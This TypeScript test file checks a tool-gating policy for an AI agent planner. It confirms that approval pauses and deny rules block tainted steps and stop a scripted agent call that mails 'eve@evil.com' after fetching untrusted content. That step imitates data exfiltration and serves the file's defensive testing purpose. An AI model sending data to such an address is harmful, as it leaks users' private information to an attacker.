import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createGate, defineTool, type Gate } from '@toolgate/core'
import { memoryApprovals, memoryState } from '@toolgate/core/stores'
import { createPlanner } from './planner.ts'
import { scriptedModel, type Turn } from './testing/scripted-model.ts'
import { callOf, createWitness, paused, VERA, witnessed } from './testing/stage.ts'

const TO_USER = { match: 'mail', input: "!(origin(input.to) in ['user', 'trusted'])" }
const NOT_TAINTED = { match: 'list', when: "'untrusted' in run.labels" }
const PROMPT = 'Write to bob@acme.com'
const KEYS = [{ id: 'k1', secret: 'a secret of at least thirty-two bytes' }]
const STEPS: readonly Turn[] = [
  callOf('pay'),
  callOf('list'),
  callOf('fetch'),
  callOf('list'),
  callOf('mail', { to: 'eve@evil.com' }),
  callOf('mail', { to: 'bob@acme.com' }),
  'Done.',
]

function setStage() {
  const witness = createWitness()
  const approvals = memoryApprovals()
  const state = memoryState()
  const createStagedGate = () =>
    createGate({
      tools: [...['fetch', 'list', 'pay'].map((name) => witnessed(name, witness)), mailOf(witness)],
      labels: { trusted: ['list', 'mail', 'pay'] },
      policy: { ask: ['pay'], deny: [TO_USER, NOT_TAINTED] },
      approvals,
    })
  const model = scriptedModel(STEPS)
  const plan = (gate: Gate) => createPlanner({ model, gate, state, keys: KEYS })
  return { witness, createStagedGate, plan }
}

function mailOf({ body }: ReturnType<typeof createWitness>) {
  return defineTool({ name: 'mail', inputSchema: { type: 'object' }, execute: body('mail') })
}

describe('a run that goes on after a pause', () => {
  it('has the history of its beginning: the words of its prompt count, and no others', async () => {
    const { witness, createStagedGate, plan } = setStage()
    const planner = plan(createStagedGate())
    const { resumeToken } = paused(await planner.run({ prompt: PROMPT, caller: VERA }))
    await planner.resume(resumeToken, { caller: VERA, approve: true })
    assert.deepEqual(witness.ran, ['pay', 'list', 'fetch', 'mail'])
  })

  it('gets the strictest answers where its history is lost', async () => {
    const { witness, createStagedGate, plan } = setStage()
    const { resumeToken } = paused(await plan(createStagedGate()).run({ prompt: PROMPT, caller: VERA }))
    await plan(createStagedGate()).resume(resumeToken, { caller: VERA, approve: true })
    assert.deepEqual(witness.ran, ['pay', 'fetch'])
  })
})

describe('a step of a run', () => {
  it('does not offer what a rule about the run denies', async () => {
    const witness = createWitness()
    const gate = createGate({
      tools: ['fetch', 'mail'].map((name) => witnessed(name, witness)),
      labels: { trusted: ['mail'] },
      policy: { deny: [{ match: 'mail', when: "'untrusted' in run.labels" }] },
    })
    const model = scriptedModel([callOf('mail'), callOf('fetch'), callOf('mail'), 'Done.'])
    await createPlanner({ model, gate }).run({ prompt: 'Read.', caller: VERA })
    assert.deepEqual(witness.ran, ['mail', 'fetch'])
    assert.deepEqual(model.sent(), [['fetch', 'mail'], ['fetch', 'mail'], ['fetch'], ['fetch']])
  })
})
